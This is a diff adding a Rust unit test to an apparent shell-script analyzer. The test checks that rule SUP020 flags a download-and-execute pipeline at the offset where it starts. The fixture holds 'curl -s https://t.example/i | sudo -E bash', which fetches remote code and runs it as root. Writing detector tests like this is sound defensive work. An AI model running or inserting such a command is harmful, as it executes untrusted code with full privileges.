@@ -110,3 +110,12 @@ fn hostile_input_is_bounded() {
     let nested = "bash -c \"".repeat(50);
     let _ = rules(&nested);
 }
+
+#[test]
+fn a_flow_is_reported_where_its_pipeline_starts() {
+    let text = "x=1\ncurl -s \\\n  https://t.example/i \\\n  | sudo -E bash\n";
+    let mut out = Vec::new();
+    analyze(text, &mut out);
+    let starts: Vec<usize> = out.iter().filter(|h| h.rule.id == "SUP020").map(|h| h.start).collect();
+    assert_eq!(starts, vec![4]);
+}
